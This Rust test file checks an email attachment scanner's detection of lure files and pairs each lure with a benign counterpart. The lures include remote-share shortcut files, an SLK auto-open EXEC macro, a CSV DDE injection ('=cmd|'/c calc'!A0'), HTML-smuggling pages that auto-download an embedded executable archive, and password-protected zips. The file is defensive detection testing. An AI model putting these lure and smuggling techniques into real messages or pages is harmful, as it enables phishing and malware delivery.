//! Files that are sent to be clicked on: every kind with a harmless likeness of the lure, and beside each a benign
//! file of the same kind that stays silent.

use lazaret::engine::attachment::{FileVerdict, Inspected};

use crate::files::{base64, file, ids, locked_zip, mail, mail_saying, mail_with, program, zip};

/// What comes of a file that is sent as an attachment.
fn sent(name: &str, bytes: &[u8]) -> Inspected {
    let header = format!(
        "Content-Type: application/octet-stream; name=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment; filename=\"{name}\""
    );
    mail(mail_with(&header, &base64(bytes)).as_bytes())
}

/// Name, the lure, and the finding that it must give; then the benign file of the kind, under the same name.
const POINTERS: &[(&str, &str, &str, &str)] = &[
    ("data.iqy", "WEB\r\n1\r\nhttp://192.0.2.7/q.dat\r\n", "shortcut_remote", "WEB\r\n1\r\n\r\n"),
    (
        "setup.appref-ms",
        "http://192.0.2.7/a.application#a.application",
        "shortcut_remote",
        "nothing here\r\n",
    ),
    (
        "setup.application",
        "<?xml version=\"1.0\"?><asmv1:assembly><deployment install=\"true\"><deploymentProvider codebase=\"https://example.org/a.application\"/></deployment></asmv1:assembly>",
        "shortcut_remote",
        "<?xml version=\"1.0\"?><asmv1:assembly><description/></asmv1:assembly>",
    ),
    (
        "start.jnlp",
        "<?xml version=\"1.0\"?><jnlp spec=\"1.0\" codebase=\"http://192.0.2.7/\"><resources><jar href=\"a.jar\"/></resources></jnlp>",
        "shortcut_remote",
        "<?xml version=\"1.0\"?><notes><jar/></notes>",
    ),
    (
        "office.rdp",
        "screen mode id:i:2\r\nfull address:s:rdp.example.org\r\nredirectdrives:i:1\r\n",
        "shortcut_remote",
        "screen mode id:i:2\r\nsession bpp:i:32\r\n",
    ),
    (
        "summer.theme",
        "[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\192.0.2.7\\share\\a.jpg\r\n",
        "shortcut_remote",
        "[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\a.jpg\r\n",
    ),
    (
        "person.contact",
        "<?xml version=\"1.0\"?><c:contact xmlns:c=\"x\"><c:UrlCollection><c:Url><c:Value>www.example\\site.cpl</c:Value></c:Url></c:UrlCollection></c:contact>",
        "shortcut_remote",
        "<?xml version=\"1.0\"?><c:contact xmlns:c=\"x\"><c:UrlCollection><c:Url><c:Value>https://example.org/</c:Value></c:Url></c:UrlCollection></c:contact>",
    ),
    (
        "place.webloc",
        "<?xml version=\"1.0\"?><plist><dict><key>URL</key><string>file:///Volumes/share/a.app</string></dict></plist>",
        "shortcut_remote",
        "<?xml version=\"1.0\"?><plist><dict><key>URL</key><string>https://example.org/</string></dict></plist>",
    ),
    (
        "site.website",
        "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=file://192.0.2.7/share/a.hta\r\n",
        "shortcut_remote",
        "only a note about a website\r\n",
    ),
    (
        "site.url",
        "[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=\\\\192.0.2.7\\share\\a.ico\r\n",
        "shortcut_remote",
        "a note about addresses\r\n",
    ),
    (
        "docs.library-ms",
        "<?xml version=\"1.0\"?><libraryDescription><simpleLocation><url>https://192.0.2.7/dav</url></simpleLocation></libraryDescription>",
        "shortcut_remote",
        "<notes>none</notes>",
    ),
    (
        "find.search-ms",
        "<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"><query><scope><include path=\"\\\\192.0.2.7\\share\"/></scope></query></persistedQuery>",
        "shortcut_remote",
        "<notes>none</notes>",
    ),
    (
        "tip.settingcontent-ms",
        "<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>",
        "shortcut_command",
        "<notes>none</notes>",
    ),
    (
        "folder.scf",
        "[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.7\\share\\a.ico\r\n",
        "shortcut",
        "a note\r\n",
    ),
    ("run.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c true\n", "shortcut", "a note\n"),
    ("run.wsh", "[ScriptFile]\r\nPath=C:\\a.vbs\r\n", "script", ""),
    (
        "console.msc",
        "<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"><StringTables><String>res://apds.dll/redirect.html?target=javascript:1</String></StringTables></MMC_ConsoleFile>",
        "script_hostile",
        "",
    ),
    (
        "sheet.slk",
        "ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC(\"calc\")\r\nE\r\n",
        "macro_xlm",
        "ID;PWXL;N;E\r\nC;X1;Y1;K\"total\"\r\nC;X2;Y1;K17;ESUM(R1C1:R2C1)\r\nE\r\n",
    ),
    (
        "table.csv",
        "name,total\r\n=cmd|'/c calc'!A0,1\r\n",
        "dde",
        "name,total\r\n=SUM(A1:A2),-5\r\n\"+49 30 123\",@home\r\n",
    ),
    (
        "notes.reg",
        "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n\"a\"=\"b\"\r\n",
        "registry_file",
        "a note\r\n",
    ),
    ("link.hta", "<html><hta:application id=x><script>1</script></html>", "script", ""),
];

#[test]
fn pointers_are_found_and_their_benign_kin_is_silent() {
    for (name, lure, finding, benign) in POINTERS {
        let found = sent(name, lure.as_bytes());
        assert!(ids(&found).contains(finding), "{name}: {:?}", ids(&found));
        assert_ne!(found.verdict(), FileVerdict::Clean, "{name}: {:?}", ids(&found));
        if !benign.is_empty() {
            // A name that runs is judged by its text; here only the text is benign, and comes under a plain name too.
            let plain = format!("{}.txt", name.split('.').next().unwrap());
            let found = sent(&plain, benign.as_bytes());
            assert_eq!(found.verdict(), FileVerdict::Clean, "{plain}: {:?}", ids(&found));
        }
    }
    for (name, _, _, benign) in POINTERS.iter().filter(|(name, ..)| {
        [".iqy", ".rdp", ".theme", ".contact", ".webloc", ".slk", ".csv"]
            .iter()
            .any(|end| name.ends_with(end))
    }) {
        let found = sent(name, benign.as_bytes());
        assert_eq!(found.verdict(), FileVerdict::Clean, "{name}: {:?}", ids(&found));
    }
}

#[test]
fn pages_that_smuggle_are_found_in_their_common_shapes() {
    let payload = base64(&zip(&[("a.exe", &program())])).replace("\r\n", "");
    let numbers: String = program().iter().map(|b| format!("{b},")).collect();
    let pieces: String =
        payload.as_bytes().chunks(60).map(|c| format!("'{}'+", String::from_utf8_lossy(c))).collect();
    let escaped: String = program().iter().map(|b| format!("%{b:02x}")).collect();
    let bad = [
        (
            "a blob",
            format!(
                "<script>var b=new Blob([Uint8Array.from(atob('{payload}'))]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.zip';a.click();</script>"
            ),
        ),
        (
            "a file",
            format!(
                "<script>const f=new File([atob('{payload}')],'x.zip');const a=document.createElement('a');a.download=f.name;a.href=URL.createObjectURL(f);a.click()</script>"
            ),
        ),
        (
            "numbers",
            format!(
                "<script>var d=[{numbers}0];var b=new Blob([new Uint8Array(d)]);a.download='x';a.click()</script>"
            ),
        ),
        (
            "pieces",
            format!("<script>var p={pieces}'';var b=new Blob([atob(p)]);a.download='x';a.click()</script>"),
        ),
        (
            "old Explorer",
            format!("<script>navigator.msSaveOrOpenBlob(new Blob([atob('{payload}')]),'x.zip')</script>"),
        ),
        (
            "an address of data",
            format!(
                "<a id=a href=\"data:application/zip;base64,{payload}\" download=\"x.zip\">x</a><script>a.click()</script>"
            ),
        ),
        (
            "a new place",
            format!("<script>location.href='data:application/octet-stream;base64,{payload}'</script>"),
        ),
        (
            "escapes",
            format!(
                "<script>var b=new Blob([unescape('{escaped}')]);a.download='x';setTimeout(function(){{a.click()}},9)</script>"
            ),
        ),
        (
            "loading",
            format!(
                "<body onload=\"a.click()\"><a id=a download=x href=\"data:application/zip;base64,{payload}\">x</a></body>"
            ),
        ),
        (
            "names in brackets",
            format!(
                "<script>var b=new window['Blob']([window['atob']('{payload}')]);a['download']='x';a['click']()</script>"
            ),
        ),
    ];
    for (what, script) in &bad {
        let page = format!("<html><body>{script}</body></html>");
        let found = file("a.html", page.as_bytes());
        assert!(ids(&found).contains(&"html_smuggling"), "{what}: {:?}", ids(&found));
        let picture = format!("<svg xmlns=\"http://www.w3.org/2000/svg\">{script}</svg>");
        assert_ne!(file("a.svg", picture.as_bytes()).verdict(), FileVerdict::Clean, "{what} in a picture");
    }
    let icon = base64(&[9; 900]).replace("\r\n", "");
    let good = [
        (
            "a picture",
            format!(
                "<img src=\"data:image/png;base64,{icon}\"><script>document.write(unescape('%3Cb%3E'))</script>"
            ),
        ),
        (
            "a font",
            format!(
                "<style>@font-face{{src:url(data:font/woff2;base64,{icon})}}</style><script>a.click();location.href='#x'</script>"
            ),
        ),
        (
            "an export",
            format!(
                "<script>{}function save(t){{var b=new Blob([t]);a.href=URL.createObjectURL(b);a.download='x.csv';a.click()}}</script>",
                "function row(cells) { return cells.join(';'); }\n".repeat(60)
            ),
        ),
        (
            "a counter",
            "<script>document.write(unescape(\"%3Cscript src='https://example.org/c.js'%3E\"));</script>"
                .to_owned(),
        ),
        (
            "a map",
            format!(
                "<script>//# sourceMappingURL=data:application/json;base64,{icon}\nwindow.open;new Blob;a.download</script>"
            ),
        ),
    ];
    for (what, inside) in good {
        let page =
            format!("<html><body>{inside}<p>{}</p></body></html>", "Some words of a page. ".repeat(20));
        let found = file("a.html", page.as_bytes());
        assert_eq!(found.verdict(), FileVerdict::Clean, "{what}: {:?}", ids(&found));
    }
}

#[test]
fn the_password_is_found_however_it_is_written() {
    let locked = locked_zip(&[("a.exe", &program())], "Hana-55x");
    let header = "Content-Type: application/zip; name=a.zip\r\nContent-Transfer-Encoding: base64";
    for text in [
        "The password is Hana-55x.",
        "Password: \"Hana-55x\"",
        "Das Kennwort lautet »Hana-55x«",
        "Passwort = ‚Hana-55x‘",
        "mot de passe : « Hana-55x »",
        "la contraseña es `Hana-55x`",
        "A senha é <Hana-55x>",
        "hasło *Hana-55x*",
        "Пароль от архива: Hana-55x",
        "密码：Hana-55x，请查收",
        "パスワードは「Hana-55x」です",
        "비밀번호: [Hana-55x]",
        "كلمة المرور: Hana-55x",
        "Use Hana-55x as the password.",
        "pw - Hana-55x",
        "password:\r\n\r\nHana-55x\r\n",
    ] {
        let found = mail(mail_saying(text, header, &base64(&locked)).as_bytes());
        assert!(ids(&found).contains(&"encrypted_password_sent"), "{text}: {:?}", ids(&found));
        assert_eq!(found.verdict(), FileVerdict::Malicious, "{text}");
    }
    let subject = mail_saying("See below.", header, &base64(&locked))
        .replace("Subject: s", "Subject: archive password Hana-55x");
    assert!(ids(&mail(subject.as_bytes())).contains(&"encrypted_password_sent"));
    // Nobody says it: then the archive is not inspected, which is neither clean nor infected.
    let tame = locked_zip(&[("a.txt", b"hello")], "Hana-55x");
    let found = mail(mail_saying("The minutes are attached.", header, &base64(&tame)).as_bytes());
    assert_eq!(found.verdict(), FileVerdict::Clean);
    assert!(ids(&found).contains(&"encrypted"));
}

#[test]
fn messages_that_are_elsewhere_or_in_pieces_are_said() {
    let outside = mail_with(
        "Content-Type: message/external-body; access-type=URL; URL=\"http://example.org/a.exe\"",
        "Content-Type: application/octet-stream\r\nContent-ID: <a@example.org>\r\n\r\n",
    );
    assert!(ids(&mail(outside.as_bytes())).contains(&"external_body"));
    let piece = mail_with(
        "Content-Type: message/partial; id=\"a@example.org\"; number=2; total=3",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\r\n",
    );
    let found = mail(piece.as_bytes());
    assert!(ids(&found).contains(&"partial_message"));
    assert_eq!(found.verdict(), FileVerdict::Clean);
}
